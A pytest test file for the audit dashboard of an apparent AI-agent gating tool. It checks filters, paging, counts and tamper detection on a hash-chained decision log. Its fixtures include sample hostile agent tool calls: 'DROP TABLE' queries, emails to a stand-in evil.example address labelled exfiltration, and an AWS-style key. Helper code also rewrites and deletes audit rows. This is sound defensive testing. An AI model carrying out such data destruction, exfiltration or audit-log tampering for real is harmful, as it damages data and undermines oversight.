"""The dashboard's reads: filters, keyset pages, counts from the rollup, verification from a checkpoint.

Every test runs on SQLite and on PostgreSQL and expects the same answers.
"""

from __future__ import annotations

import sqlite3
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from agentgate._call import ToolCall
from agentgate._context import AgentContext
from agentgate._decision import Effect, Finding, Severity, Verdict, VerdictType
from agentgate.audit import open_store
from agentgate.audit._checkpoint import chain_position, verify_full, verify_incremental
from agentgate.audit._query import ActionFilter, FilterError, parse_filter, parse_limit, parse_sort
from agentgate.audit._stats import filtered_stats

from .trail import Trail

# Whole hours, so tests can place decisions on either side of an hour boundary.
T0 = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(days=3)


def _verdict(
    i: int,
    action: VerdictType,
    rule: str = "",
    *,
    tier: int = 1,
    rev: str = "rev1",
    wb: bool = False,
    reason: str = "no rule matched",
    judge: str | None = None,
) -> Verdict:
    findings = (Finding(rule, Severity.HIGH, Effect.BLOCK, f"{rule} fired", "evidence"),) if rule else ()
    return Verdict(
        action,
        tier_used=tier,
        policy_name=rule,
        severity=Severity.HIGH if rule else Severity.LOW,
        reasoning=reason,
        findings=findings,
        decision_id=f"d-{i}",
        latency_us=float(10 + i),
        policy_revision=rev,
        mode="monitor" if wb else "enforce",
        would_block=wb,
        judge_model=judge,
    )


def _populate(url: str) -> Trail:
    """24 decisions: 2 agents, 3 tools, every verdict, two rules, both tiers, two revisions, over 3 days."""
    trail = Trail(url)
    for i in range(24):
        agent = "reporter" if i % 2 == 0 else "mailer"
        t = (T0 + timedelta(hours=3 * i, minutes=30)).timestamp()
        if i % 6 == 0:
            v, tool, args = (
                _verdict(i, VerdictType.BLOCK, "sql.drop", reason="DROP TABLE destroys data"),
                "run_query",
                {"query": f"DROP TABLE t{i}"},
            )
        elif i % 6 == 1:
            v, tool, args = (
                _verdict(i, VerdictType.ALLOW, "http.exfil", wb=True),
                "send_email",
                {"to": "x@evil.example", "body": "quarterly"},
            )
        elif i % 6 == 2:
            v, tool, args = (
                _verdict(
                    i, VerdictType.BLOCK, "http.exfil", tier=2, judge="gpt-test", reason="the judge saw an exfiltration"
                ),
                "send_email",
                {"to": "y@evil.example"},
            )
        elif i % 6 == 3:
            v, tool, args = _verdict(i, VerdictType.ESCALATE, "", rev="rev2"), "read_file", {"path": f"reports/{i}.csv"}
        else:
            v, tool, args = (
                _verdict(i, VerdictType.ALLOW, "", rev="rev2"),
                "read_file",
                {"path": f"reports/{i}.csv", "api_key": "AKIAZ7QW3ERT5YUI8OPL"},
            )
        trail.add(
            ToolCall(tool, args), v, AgentContext(agent_id=agent, task_id=f"task-{i // 4}", user_id=f"user-{i % 3}"), t
        )
    trail.flush()
    return trail


@pytest.fixture(params=["sqlite", "postgres"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A trail URL on SQLite, then on PostgreSQL (a schema of its own)."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path}/audit.db"
    return str(request.getfixturevalue("pg_schema")[0])


@pytest.fixture
def trail(url: str) -> Iterator[Trail]:
    """The 24-decision trail at *url*."""
    t = _populate(url)
    yield t
    t.close()


@pytest.fixture
def store(url: str, trail: Trail) -> Iterator[Any]:
    """A store prepared for the dashboard."""
    s = open_store(url)
    s.ensure_dashboard()
    yield s
    s.close()


def _tools(store: Any, **params: str) -> list[int]:
    return [r["seq"] for r in store.page(parse_filter(params), limit=100).rows]


def test_bad_parameters_are_errors_with_the_reason() -> None:
    """since=yesterday, limit=-5, an unknown verdict or tier: FilterError naming the parameter, never a silent answer."""
    with pytest.raises(FilterError, match=r"since must be an ISO 8601 time.*'yesterday'"):
        parse_filter({"since": "yesterday"})
    with pytest.raises(FilterError, match="limit must be between 1 and 1000, not -5"):
        parse_limit({"limit": "-5"}, 50, 1000)
    with pytest.raises(FilterError, match="limit must be an integer"):
        parse_limit({"limit": "ten"}, 50, 1000)
    with pytest.raises(FilterError, match="verdict must be one of"):
        parse_filter({"verdict": "maybe"})
    with pytest.raises(FilterError, match="tier must be between 1 and 2"):
        parse_filter({"tier": "3"})
    with pytest.raises(FilterError, match="since must be before until"):
        parse_filter({"since": "2026-01-02", "until": "2026-01-01"})
    with pytest.raises(FilterError, match="sort must be one of"):
        parse_sort({"sort": "random"})
    assert parse_filter({"since": "24h"}).since is not None
    assert parse_filter({"since": "2026-01-02T03:00:00Z"}).since == datetime(2026, 1, 2, 3, tzinfo=UTC)
    assert parse_filter({"since": "2026-01-02T03:00:00"}).since == datetime(2026, 1, 2, 3, tzinfo=UTC)  # no zone: UTC


def test_each_filter_selects_the_same_rows_on_both_databases(store: Any) -> None:
    """agent, task, user, tool, verdict (incl. would_block), rule, tier, revision: equality, newest first."""
    assert _tools(store) == list(range(24, 0, -1))
    assert _tools(store, agent="mailer") == [s for s in range(24, 0, -1) if (s - 1) % 2 == 1]
    assert _tools(store, task="task-0") == [4, 3, 2, 1]
    assert _tools(store, user="user-1") == [s for s in range(24, 0, -1) if (s - 1) % 3 == 1]
    assert _tools(store, tool="run_query") == [19, 13, 7, 1]
    assert _tools(store, verdict="block") == [s for s in range(24, 0, -1) if (s - 1) % 6 in (0, 2)]
    assert _tools(store, verdict="escalate") == [22, 16, 10, 4]
    assert _tools(store, verdict="would_block") == [20, 14, 8, 2]
    assert _tools(store, rule="http.exfil") == [s for s in range(24, 0, -1) if (s - 1) % 6 in (1, 2)]
    assert _tools(store, tier="2") == [21, 15, 9, 3]
    assert _tools(store, revision="rev2") == [s for s in range(24, 0, -1) if (s - 1) % 6 >= 3]
    assert _tools(store, agent="reporter", verdict="block", rule="http.exfil") == [21, 15, 9, 3]
    assert _tools(store, agent="mailer", verdict="block", rule="http.exfil") == []


def test_time_range_is_half_open_and_accepts_iso_and_relative(store: Any) -> None:
    """since/until select [since, until) on the decision time; relative ages count back from now."""
    since = (T0 + timedelta(hours=3)).isoformat()
    until = (T0 + timedelta(hours=9, minutes=30)).isoformat()  # exactly decision 4's time: excluded
    assert _tools(store, since=since, until=until) == [3, 2]
    assert _tools(store, since=(T0 + timedelta(hours=66)).strftime("%Y-%m-%dT%H:%M:%SZ")) == [24, 23]
    day_ago = datetime.now(UTC) - timedelta(days=1)  # decisions are on the half hour: no boundary within the call
    assert _tools(store, since="1d") == [
        i + 1 for i in range(23, -1, -1) if T0 + timedelta(hours=3 * i + 0.5) >= day_ago
    ]
    assert _tools(store, until="1w") == []


def test_free_text_searches_tool_redacted_arguments_and_reason(store: Any) -> None:
    """text matches tool names, argument values and reasons, ASCII case-insensitively; never a redacted secret."""
    assert _tools(store, text="RUN_QUERY") == [19, 13, 7, 1]
    assert _tools(store, text="evil.example") == [s for s in range(24, 0, -1) if (s - 1) % 6 in (1, 2)]
    assert _tools(store, text="exfiltration") == [21, 15, 9, 3]
    assert _tools(store, text="100%") == []  # % is a literal, not a wildcard
    assert _tools(store, text="AKIAZ7QW3ERT5YUI8OPL") == []  # stored redacted
    row = store.page(parse_filter({"text": "reports/4.csv"})).rows[0]
    assert "AKIA" not in str(row["payload"]) and row["redacted"] is True


def test_keyset_pages_cover_everything_once_and_do_not_shift(store: Any, trail: Trail) -> None:
    """Pages chained by cursor list every row once in order; rows written meanwhile do not move later pages."""
    f = ActionFilter()
    first = store.page(f, limit=10)
    trail.add(
        ToolCall("read_file", {"path": "new"}), _verdict(99, VerdictType.ALLOW), AgentContext(agent_id="a"), time.time()
    )
    trail.flush()
    seen = [r["seq"] for r in first.rows]
    cursor = first.next_cursor
    while cursor:
        page = store.page(f, cursor=cursor, limit=10)
        seen += [r["seq"] for r in page.rows]
        cursor = page.next_cursor
    assert seen == list(range(24, 0, -1))
    slow = [r["latency_us"] for r in store.page(f, sort="slowest", limit=5).rows]
    nxt = store.page(f, sort="slowest", limit=5, cursor=store.page(f, sort="slowest", limit=5).next_cursor).rows
    assert slow == sorted(slow, reverse=True) and nxt[0]["latency_us"] < slow[-1]
    with pytest.raises(FilterError, match="cursor"):
        store.page(f, sort="oldest", cursor=first.next_cursor)


def _direct(store: Any, f: ActionFilter) -> dict[str, int]:
    out: dict[str, int] = {}
    for r in store.iter_filtered(f):
        out[r["verdict"]] = out.get(r["verdict"], 0) + 1
    return out


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"agent": "mailer"},
        {"rule": "http.exfil", "verdict": "block"},
        {"since": "2d"},
        {"since": "T0+4h10m", "until": "T0+40h45m"},
        {"since": "T0+4h10m", "until": "T0+4h50m"},
        {"since": "T0+1h10m", "until": "T0+99h0m"},  # > 3 days: whole days from the daily rollup
        {"since": "T0+1h10m", "until": "T0+99h0m", "agent": "reporter", "verdict": "would_block"},
        {"task": "task-1"},
        {"text": "evil"},
        {"tier": "2", "revision": "rev1"},
    ],
)
def test_counts_follow_the_filters_and_match_the_rows(store: Any, params: dict[str, str]) -> None:
    """Counts from the rollup (+ edges + tail) equal counting the matching rows, for every kind of filter."""
    p = dict(params)
    for k in ("since", "until"):
        if p.get(k, "").startswith("T0+"):
            h, m = p[k][3:].rstrip("m").split("h")
            p[k] = (T0 + timedelta(hours=int(h), minutes=int(m))).isoformat()
    f = parse_filter(p)
    s = filtered_stats(store, f)
    assert s["by_verdict"] == _direct(store, f)
    assert s["total"] == sum(_direct(store, f).values())
    assert (
        sum(sum(v for k, v in pt.items() if k in ("allow", "block", "escalate")) for pt in s["timeline"]["points"])
        == s["total"]
    )


def test_rollup_is_incremental_and_counts_new_rows_once(store: Any, trail: Trail) -> None:
    """New rows are added to the rollup from the last aggregated id; repeated requests do not count twice."""
    before = filtered_stats(store, ActionFilter())["total"]
    assert filtered_stats(store, ActionFilter())["total"] == before == 24
    for i in range(3):
        trail.add(
            ToolCall("read_file", {"path": "x"}),
            _verdict(100 + i, VerdictType.ALLOW),
            AgentContext(agent_id="late"),
            time.time(),
        )
    trail.flush()
    s = filtered_stats(store, ActionFilter(agent="late"))
    assert s["total"] == 3 and s["rollup_upto"] >= 27
    assert filtered_stats(store, ActionFilter())["total"] == 27
    assert filtered_stats(store, ActionFilter(agent="late"))["by_agent"] == {"late": 3}


def _tamper(url: str, sql: str, params: tuple[Any, ...]) -> None:
    if url.startswith("sqlite"):
        db = sqlite3.connect(url[len("sqlite:///") :])
        db.execute(sql.replace("%s", "?"), params)
        db.commit()
        db.close()
        return
    import psycopg

    from agentgate.audit._postgres import split_schema

    clean, schema = split_schema(url)
    with psycopg.connect(clean, autocommit=True) as conn:
        conn.execute(f'SET search_path TO "{schema}"')
        conn.execute(sql, params)


def test_verify_from_checkpoint_reads_only_what_came_after(store: Any, trail: Trail, url: str) -> None:
    """The first call verifies all, later ones only new records; a change after the checkpoint is named."""
    first = verify_incremental(store)
    assert first["ok"] and first["records"] == 24 and first["chains"] == 1
    again = verify_incremental(store)
    assert again["ok"] and again["records"] == 0
    for i in range(5):
        trail.add(
            ToolCall("read_file", {"path": f"n{i}"}),
            _verdict(200 + i, VerdictType.ALLOW),
            AgentContext(agent_id="a"),
            time.time(),
        )
    trail.flush()
    _tamper(url, "UPDATE actions SET tool_name = 'other' WHERE seq = %s", (26,))
    rep = verify_incremental(store)
    assert rep["records"] == 5 and not rep["ok"]
    bad = trail.rows[25]
    assert [p["record_id"] for p in rep["problems"]] == [str(bad["id"])]
    assert "modified" in rep["problems"][0]["message"]
    assert not verify_incremental(store)["ok"]  # stays reported until a full verification


def test_a_change_before_the_checkpoint_needs_the_full_verification(store: Any, trail: Trail, url: str) -> None:
    """An old record rewritten is invisible to the incremental check and found by the full one, which is kept."""
    assert verify_incremental(store)["ok"]
    _tamper(url, "UPDATE actions SET tool_name = 'harmless' WHERE seq = %s", (5,))
    assert verify_incremental(store)["ok"]
    full = verify_full(store)
    assert not full["ok"] and full["mode"] == "full"
    assert full["first"]["record_id"] == str(trail.rows[4]["id"])
    assert not verify_incremental(store)["ok"]


def test_rewrite_of_the_checkpointed_record_is_caught_at_once(store: Any, trail: Trail, url: str) -> None:
    """The latest verified record of each chain is re-hashed on every incremental check."""
    assert verify_incremental(store)["ok"]
    _tamper(url, "UPDATE actions SET reasoning = 'fine' WHERE seq = %s", (24,))
    rep = verify_incremental(store)
    assert not rep["ok"] and "changed after it was verified" in rep["problems"][0]["message"]


def test_deleted_and_inserted_records_are_found_where_they_are(store: Any, trail: Trail, url: str) -> None:
    """A deleted record is a gap named at the record after it; a row written by hand outside any chain is named."""
    verify_incremental(store)
    for i in range(3):
        trail.add(
            ToolCall("read_file", {"path": f"d{i}"}),
            _verdict(300 + i, VerdictType.ALLOW),
            AgentContext(agent_id="a"),
            time.time(),
        )
    trail.flush()
    _tamper(url, "DELETE FROM actions WHERE seq = %s", (26,))
    ins = "INSERT INTO actions (id, tool_name, verdict) VALUES (%s, 'forged', 'allow')"
    _tamper(url, ins, ("0190a0a0-0000-7000-8000-000000000001",))
    want = {("deleted", str(trail.rows[26]["id"])), ("inserted", "0190a0a0-0000-7000-8000-000000000001")}
    # On a shared PostgreSQL another writer's open transaction holds the settled bound back
    # (settled_bound): verification reaches the new rows once the bound passes them.
    deadline = time.monotonic() + 120
    while True:
        rep = verify_incremental(store)
        kinds = {(p["kind"], p["record_id"]) for p in rep["problems"]}
        if want <= kinds or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert ("deleted", str(trail.rows[26]["id"])) in kinds
    assert ("inserted", "0190a0a0-0000-7000-8000-000000000001") in kinds
    pos = chain_position(store, store.get_action(str(trail.rows[26]["id"])))
    assert pos["prev_missing"] is True and pos["hash_ok"] is True


def test_chain_position_of_an_intact_and_a_tampered_record(store: Any, trail: Trail, url: str) -> None:
    """A record's place in its chain: its hash, its links both ways; a rewritten one shows where it broke."""
    row = store.get_action("d-5")
    pos = chain_position(store, row)
    assert pos["hash_ok"] and pos["prev_ok"] and pos["next_ok"] and pos["prev"]["seq"] == 5 and pos["next"]["seq"] == 7
    _tamper(url, "UPDATE actions SET tool_name = 'other' WHERE seq = %s", (6,))
    assert chain_position(store, store.get_action("d-5"))["hash_ok"] is False
    assert store.get_action("no-such-decision") is None
